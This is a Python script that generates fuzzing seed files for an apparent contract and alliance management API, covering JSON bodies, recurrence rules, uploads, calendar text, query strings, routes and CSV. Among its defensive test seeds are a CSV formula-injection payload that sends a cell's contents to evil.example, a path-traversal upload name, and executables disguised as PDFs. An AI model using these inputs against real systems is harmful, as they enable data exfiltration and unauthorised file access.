#!/usr/bin/env python3
"""Writes the seed corpora under fuzz/corpus/<harness>/ (the committed files are its output).

Seeds are small, meaningful inputs in each harness's input format (see the header comment of
fuzz/<harness>_fuzz.cpp): request bodies like those of tests/api, the recurrence rules of
tests/api/obligations.test.mjs with their windows, real file headers, calendar text, query
strings, request lines and CSV. Run it again after changing a format; it replaces only the files
it writes (regression-* seeds, saved from findings, are left alone).
"""
import base64
import datetime
import io
import json
import pathlib
import struct
import zipfile

CORPUS = pathlib.Path(__file__).resolve().parent / "corpus"
ID1 = "01938a4e-7c2b-7d5e-9f10-2b3c4d5e6f70"
ID2 = "01938a4e-9d01-7aa0-8b21-0c1d2e3f4a5b"
ID3 = "01938a4f-0000-7000-8000-000000000001"


def write(harness, name, data):
    folder = CORPUS / harness
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data.encode() if isinstance(data, str) else data)


def provider_strings(*parts):
    """FuzzedDataProvider strings: each but the last ends with a backslash and one more byte."""
    out = b""
    for p in parts[:-1]:
        p = p.encode() if isinstance(p, str) else p
        out += p.replace(b"\\", b"\\\\") + b"\\\n"
    last = parts[-1]
    return out + (last.encode() if isinstance(last, str) else last)


def json_body():
    bodies = {
        "agreement": {"title": "Collaboration and licence, Helix/Nimbus", "kind": "collaboration",
                      "relation": "master", "parent_id": None, "party_ids": [ID1, ID2],
                      "status": "active"},
        "agreement-terms": {"title": "Amendment 1", "kind": "license", "relation": "amendment",
                            "parent_id": ID1, "term_changes": {"expiry_on": "2028-12-31",
                                                               "notice_period_days": 90,
                                                               "governing_law": "England and Wales"}},
        "obligation-once": {"agreement_id": ID1, "title": "Quarterly safety report",
                            "category": "reporting", "direction": "owed", "owed_by": ID1,
                            "owed_to": ID2, "schedule": "once", "due_on": "2026-03-31"},
        "obligation-recurring": {"agreement_id": ID1, "title": "Royalty statement",
                                 "category": "payment", "direction": "owed", "owed_by": ID1,
                                 "owed_to": ID2, "schedule": "recurring", "starts_on": "2026-01-15",
                                 "rrule": "FREQ=MONTHLY;INTERVAL=3", "reminder_days": [30, 7, 1]},
        "every-field": {"title": "  Mutual CDA  ", "kind": "cda", "notice_period_days": 90,
                        "amount": 1250000.5, "active": True, "due_on": "2028-02-29",
                        "agreement_id": ID1, "parent_id": None, "tags": ["oncology", "EU"],
                        "items": [{"title": "first"}, {"title": "second", "kind": "other"}],
                        "term_changes": {"title": "terms", "due_on": "2027-02-29", "amount": -0.0}},
        "occurrence": {"status": "fulfilled", "fulfilled_on": "2026-04-02",
                       "evidence": "Report sent by e-mail"},
        "login": {"email": "ph.manager@helix.example", "password": "correct horse battery staple"},
        "meeting": {"committee_id": ID1, "title": "JSC first quarter",
                    "starts_at": "2026-03-12T14:00:00Z", "duration_minutes": 90,
                    "time_zone": "Europe/Berlin", "location": "Basel, room 4",
                    "link": "https://meet.example.com/j/1"},
        "restriction": {"agreement_id": ID1, "kind": "non_compete",
                        "therapeutic_areas": ["Heart failure"], "territories": ["EU", "worldwide"],
                        "starts_on": "2026-01-01", "ends_on": "2030-12-31"},
        "conflict-check": {"therapeutic_areas": ["Oncology"], "modalities": ["ADC"],
                           "territories": ["US"], "counterparty": "Acme Bio"},
        "empty": {},
    }
    for name, body in bodies.items():
        write("json_body", name + ".json", json.dumps(body, ensure_ascii=False))
    raw = {
        "unicode.json": '{"title":"Zusammenarbeit \\u00fcber \U0001F600 \\ud83d\\ude00","tags":["\u65e5\u672c","\U0001D518"]}',
        "numbers.json": '{"amount":-0.0,"notice_period_days":9223372036854775807,'
                        '"x":18446744073709551615,"y":1e400,"z":-1e-400,"w":1E+15,"v":1e15}',
        "control.json": '{"title":"line\\nbreak\\ttab\\u0000nul","kind":"\\u0063da"}',
        "repeated-key.json": '{"active":false,"active":true}',
        "repeated-nested.json": '{"term_changes":{"title":"a","title":"b"},"title":"x"}',
        "deep.json": '{"a":' + "[" * 15 + "1" + "]" * 15 + "}",
        "too-deep.json": '{"a":' + "[" * 16 + "1" + "]" * 16 + "}",
        "array.json": "[1,2,3]",
        "string.json": '"just a string"',
        "comment.json": '{"a":1 /* note */}',
        "trailing.json": '{"a":1} x',
        "escaped-keys.json": '{"k\\u0065y":"v","\\"":1,"t\\u0069tle":"escaped key"}',
        "whitespace.json": ' \r\n\t{ "title" : "spaced" , "active" : false }\n',
        "nulls.json": '{"title":null,"amount":null,"parent_id":null,"tags":null}',
        "wrong-types.json": '{"title":5,"kind":"nope","notice_period_days":3651,"amount":"1",'
                            '"active":"yes","due_on":"2026-13-01","agreement_id":"X","tags":["a","a"],'
                            '"items":{},"term_changes":[]}',
    }
    for name, text in raw.items():
        write("json_body", name, text)
    write("json_body", "invalid-utf8.json", b'{"title":"\xff\xfe"}')
    write("json_body", "surrogate-utf8.json", b'{"title":"\xed\xa0\x80"}')


EPOCH_2026 = datetime.date(2026, 1, 1)


def rrule_seed(rule, start, frm, to, limit=1000):
    s, f, t = (datetime.date.fromisoformat(x) for x in (start, frm, to))
    params = struct.pack("<iiHH", (s - EPOCH_2026).days, (f - s).days,
                         ((t - f).days - 730) % 65536, 1000 - limit)
    return rule.encode() + params


def rrule():
    # [rule, DTSTART, from, to] from tests/api/obligations.test.mjs (checked against dateutil).
    cases = [
        ("FREQ=MONTHLY;INTERVAL=3", "2026-01-15", "2026-01-01", "2027-12-31"),
        ("FREQ=MONTHLY;BYMONTHDAY=31", "2026-01-31", "2026-01-01", "2026-12-31"),
        ("FREQ=MONTHLY;BYMONTHDAY=-1", "2026-01-31", "2026-01-01", "2026-06-30"),
        ("FREQ=YEARLY", "2024-02-29", "2024-02-01", "2028-12-31"),
        ("FREQ=WEEKLY;BYDAY=MO,TH;COUNT=5", "2026-03-02", "2026-01-01", "2026-12-31"),
        ("FREQ=MONTHLY;BYDAY=-1FR;UNTIL=20260630", "2026-01-30", "2026-01-01", "2026-12-31"),
        ("FREQ=MONTHLY;BYDAY=1MO;COUNT=3", "2026-01-05", "2026-01-01", "2026-12-31"),
        ("FREQ=DAILY;INTERVAL=10;COUNT=3", "2026-01-01", "2026-01-01", "2026-12-31"),
        ("FREQ=MONTHLY;COUNT=4", "2026-01-10", "2026-03-01", "2026-12-31"),
        ("FREQ=MONTHLY;INTERVAL=2;BYMONTHDAY=1,15;COUNT=5", "2026-01-01", "2026-01-01", "2026-12-31"),
        ("FREQ=WEEKLY;INTERVAL=2;BYDAY=FR;UNTIL=20260320", "2026-01-02", "2026-01-01", "2026-12-31"),
        ("FREQ=MONTHLY;BYDAY=2TU;COUNT=5", "2026-01-13", "2026-01-01", "2027-12-31"),
        ("RRULE:FREQ=WEEKLY;BYDAY=MO,WE,FR", "2026-01-05", "2026-02-01", "2026-03-31"),
        ("freq=daily;interval=2;until=20261231T235959Z", "2026-12-01", "2026-01-01", "2027-01-31"),
        ("FREQ=YEARLY;INTERVAL=4", "2024-02-29", "2024-01-01", "2124-12-31"),
        ("FREQ=MONTHLY;BYDAY=-5SU,5MO", "2026-01-01", "2026-01-01", "2027-12-31"),
        ("FREQ=MONTHLY;BYMONTHDAY=31,-31;BYDAY=FR", "2026-01-01", "2026-01-01", "2030-12-31"),
        ("FREQ=DAILY;BYDAY=SA,SU;COUNT=1000", "2026-01-01", "2026-06-01", "2046-12-31"),
        ("FREQ=DAILY", "9999-12-01", "9999-12-01", "9999-12-31"),
        ("FREQ=MONTHLY;INTERVAL=1000", "0001-01-01", "0001-01-01", "0179-12-31"),
        (" FREQ = WEEKLY ; BYDAY = su ; INTERVAL = 1 ", "2026-01-04", "2026-01-01", "2026-02-28"),
        ("FREQ=DAILY;INTERVAL=30", "2025-06-15", "2026-01-01", "2026-12-31"),
    ]
    for i, (rule, start, frm, to) in enumerate(cases):
        write("rrule", f"rule-{i:02d}", rrule_seed(rule, start, frm, to))
    write("rrule", "rule-limit-3", rrule_seed("FREQ=WEEKLY", "2026-01-01", "2026-01-01", "2027-01-01", 3))
    # Refused rules from the same tests: each names the part at fault.
    bad = ["FREQ=HOURLY", "FREQ=MONTHLY;COUNT=3;UNTIL=20270101", "FREQ=MONTHLY;BYMONTHDAY=0",
           "FREQ=MONTHLY;BYMONTHDAY=-32", "FREQ=WEEKLY;BYMONTHDAY=3", "FREQ=YEARLY;BYDAY=MO",
           "FREQ=WEEKLY;BYDAY=1MO", "FREQ=DAILY;INTERVAL=0", "FREQ=MONTHLY;COUNT=1001",
           "FREQ=MONTHLY;UNTIL=2027-01-01", "FREQ=WEEKLY;BYSETPOS=1", "INTERVAL=2",
           "FREQ=MONTHLY;FREQ=WEEKLY", "FREQ=MONTHLY;INTERVAL=two", "FREQ=MONTHLY;;COUNT=2"]
    for i, rule in enumerate(bad):
        write("rrule", f"bad-{i:02d}", rrule_seed(rule, "2026-01-01", "2026-01-01", "2026-12-31"))


def zip_with(*names):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as z:
        # A fixed date, so that the seeds come out the same on every run.
        stamp = (2026, 12, 6, 0, 0, 0)
        z.writestr(zipfile.ZipInfo("[Content_Types].xml", stamp), '<?xml version="1.0"?><Types/>')
        for n in names:
            z.writestr(zipfile.ZipInfo(n, stamp), "<x/>")
    return buffer.getvalue()


def upload():
    pdf = (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
           b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + b"\x00" * 96
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    elf = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00"
    seeds = {
        "pdf": ("Signed CDA.pdf", "application/pdf", pdf),
        "docx": ("minutes.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                 zip_with("word/document.xml")),
        "xlsx": ("budget.XLSX", "", zip_with("xl/workbook.xml")),
        "pptx": ("deck.pptx", "application/octet-stream", zip_with("ppt/presentation.xml")),
        "zip-as-docx": ("plain.docx", "", zip_with("data.bin")),
        "zip": ("archive.zip", "application/zip", zip_with("a.txt")),
        "doc": ("legacy.doc", "application/msword", ole),
        "xls-as-doc": ("legacy.xls", "application/msword", ole),
        "csv": ("royalties.csv", "text/csv; charset=utf-8", "party,amount\r\nHelix,100\r\nNimbus,\"1,5\"\r\n"),
        "txt": ("notes.txt", "TEXT/PLAIN", "Grüße aus Basel \u2013 \U0001F600\n"),
        "txt-nul": ("notes.txt", "", b"text\x00with a NUL"),
        "exe": ("setup.exe", "application/octet-stream", b"MZ\x90\x00\x03\x00\x00\x00"),
        "exe-renamed": ("report.pdf", "application/pdf", b"MZ\x90\x00" + pdf),
        "elf": ("tool", "", elf),
        "script": ("run.sh.txt", "text/plain", "#!/bin/sh\necho hi\n"),
        "macho": ("app.pdf", "", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01"),
        "trailing-dot": ("C:\\Users\\x\\invoice.pdf.exe. ", "", pdf),
        "folder": ("../../etc/contract.PDF", "application/pdf;q=1", pdf),
        "png": ("scan.png", "image/png", png),
        "mismatch-declared": ("Signed CDA.pdf", "application/msword", pdf),
        "empty": ("empty.txt", "text/plain", b""),
        "no-extension": ("README", "", "plain text"),
    }
    for key, (name, declared, data) in seeds.items():
        write("upload", key, provider_strings(name, declared, data))


def ical():
    seeds = {
        "meeting": ("JSC first quarter (Helix \u2013 Nimbus)",
                    "Joint steering committee\n\nAgenda:\n1. Budget; forecast, FX (30 min)\n"
                    "2. Risks \\ issues (15 min)\nTime zone: Europe/Berlin",
                    "Basel, room 4", "Helix \u2013 Nimbus alliance"),
        "fold-ascii": ("A" * 74, "B" * 75 + "C" * 149, "D" * 76, "Northstar"),
        "fold-2byte": ("\u00c4" * 80, "\u00e9" * 37 + "x", "\u00df" * 38, "\u00dc" * 40),
        "fold-3byte": ("\u20ac" * 50, "a" + "\u20ac" * 30, "\u65e5\u672c" * 20, "\u2013" * 26),
        "fold-4byte": ("\U0001F600" * 40, "ab" + "\U0001F600" * 19, "abc" + "\U0001D518" * 30, "x"),
        "line-breaks": ("one\r\ntwo\rthree\nfour", "\r\n\r\n", "\n", "trailing\r"),
        "escapes": ("a,b;c\\d", "\\n is not a newline", ";;;,,,\\\\", "\\"),
        "empty": ("", "", "", ""),
        "control": ("tab\there", "nul\x00byte", "\x7f", "bell\x07"),
    }
    for key, parts in seeds.items():
        write("ical", key, provider_strings(*parts))
    write("ical", "invalid-utf8", provider_strings(b"\xc3" * 3, b"\xe2\x82", b"\xff\xfe", b"\x80" * 10))


def b64(obj):
    return base64.urlsafe_b64encode(json.dumps(obj, separators=(",", ":")).encode()).rstrip(b"=").decode()


def cursor_id():
    seeds = {
        "page": "limit=50&cursor=" + b64({"k": ["2026-01-15", ID1]}),
        "cursor-keys": b64({"k": ["Heart failure", "", ID2]}),
        "cursor-id": b64({"id": ID1, "at": "2026-11-21T19:33:56.123Z"}),
        "cursor-empty-object": b64({}),
        "cursor-array": b64([1, 2]),
        "cursor-padded": b64({"k": []}) + "==",
        "cursor-std-alphabet": "eyJrIjpbIj8/Pz4+Pj4iXX0+/w",
        "limit-200": "limit=200",
        "limit-zero": "0",
        "limit-leading-zeros": "0050",
        "limit-negative": "-1",
        "limit-201": "201",
        "id": ID1,
        "id-upper": ID1.upper(),
        "id-short": ID1[:-1],
        "date-leap": "2024-02-29",
        "date-not-leap": "2025-02-29",
        "date-first": "1900-01-01",
        "date-last": "2999-12-31",
        "date-out-of-range": "3000-01-01",
        "date-1899": "1899-12-31",
        "instant": "2026-11-21T19:33:56.123Z",
        "instant-no-ms": "2026-11-21T19:33:56Z",
        "instant-odd": "2026-1-1T-1:00:60.-99Z",
        "query": "stage=execution&q=heart+failure%20EU&name=%C3%BC&flag&=x&&a=1=2",
        "query-broken": "a=%&b=%zz&c=%C3",
        "query-overlong": "a=%C0%AF",
        "query-surrogate": "a=%ED%A0%80",
        "query-4byte": "emoji=%F0%9F%98%80",
    }
    for key, text in seeds.items():
        write("cursor_id", key, text)


def router():
    base = f"/api/v1/alliances/{ID1}"
    seeds = {
        "documents": f"GET {base}/agreements/{ID2}/documents",
        "upload": f"POST {base}/agreements/{ID2}/documents?name=Signed%20CDA.pdf",
        "content": f"GET {base}/agreements/{ID2}/documents/{ID3}/content",
        "note": f"PATCH {base}/agreements/{ID2}/notes/{ID3}",
        "occurrence": f"PUT {base}/obligations/{ID2}/occurrences/2026-03-31",
        "export": f"GET {base}/compliance/export.xlsx?from=2026-01-01",
        "destruction": f"POST {base}/datasets/{ID2}/destruction",
        "kpi-value": f"GET {base}/kpis/{ID2}/values/{ID3}",
        "agenda-item": f"GET {base}/meetings/{ID2}/agenda/{ID3}",
        "member": f"DELETE {base}/members/{ID2}",
        "stage": f"POST {base}/stage",
        "alliance-head": f"HEAD {base}",
        "alliances": "GET /api/v1/alliances?stage=execution&limit=20",
        "me": "GET /api/v1/me",
        "login": "POST /api/v1/auth/login",
        "token": f"DELETE /api/v1/tokens/{ID1}",
        "notification": f"POST /api/v1/me/notifications/{ID1}/read",
        "calendar": "GET /api/v1/calendar/Zm9vYmFyYmF6.ics",
        "calendar-bare": "GET /api/v1/calendar/.ics",
        "lookup": "GET /api/v1/invitations/lookup?token=abc",
        "lookup-delete": "DELETE /api/v1/invitations/lookup",
        "bad-id": "GET /api/v1/alliances/not-an-id",
        "upper-id": f"GET /api/v1/alliances/{ID1.upper()}",
        "encoded-id": "GET /api/v1/alliances/%30" + ID1[1:] + "/stage",
        "encoded-slash": f"GET {base}%2Fagreements",
        "empty-segment": "GET /api/v1/alliances//agreements",
        "trailing-slash": "GET /api/v1/me/",
        "wrong-method": f"OPTIONS {base}/agreements",
        "root": "GET /",
        "asterisk": "OPTIONS *",
        "no-slash": "GET api/v1/me",
        "invalid-utf8": "GET /api/v1/alliances/%FF",
    }
    for key, line in seeds.items():
        write("router", key, line)


def csv():
    seeds = {
        "export": "Party,Due,On time,Rate\r\nHelix,12,11,0.917\r\nNimbus,8,8,1\r\n",
        "quoted": 'title,notes\r\n"Royalty, Q1","He said ""paid""\r\non 2 lines"\r\n',
        "lf-only": "a,b\nc,d\n",
        "no-final-break": "a,b\r\nc,d",
        "empty-fields": ",,\r\n\r\n\"\",x,\r\n",
        "bom": "\ufeffname,amount\r\nHelix,100\r\n",
        "formulas": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\"),+1,-1,@SUM(A1),\t=1,  =2\r\n",
        "neutralised": "'=1,'+2,\"'-3\"\r\n",
        "unicode": "Zusammenarbeit,\u00fcber,\U0001F600,\u65e5\u672c\r\n",
        "unclosed": 'a,"never closed\r\nb,c\r\n',
        "after-quote": '"a"b,c\r\n',
        "quote-inside": 'a"b,c\r\n',
        "lone-cr": "a,b\rc,d\r",
    }
    for key, text in seeds.items():
        write("csv", key, text)
    write("csv", "invalid-utf8", b"a,\xff\r\n")


if __name__ == "__main__":
    json_body()
    rrule()
    upload()
    ical()
    cursor_id()
    router()
    csv()
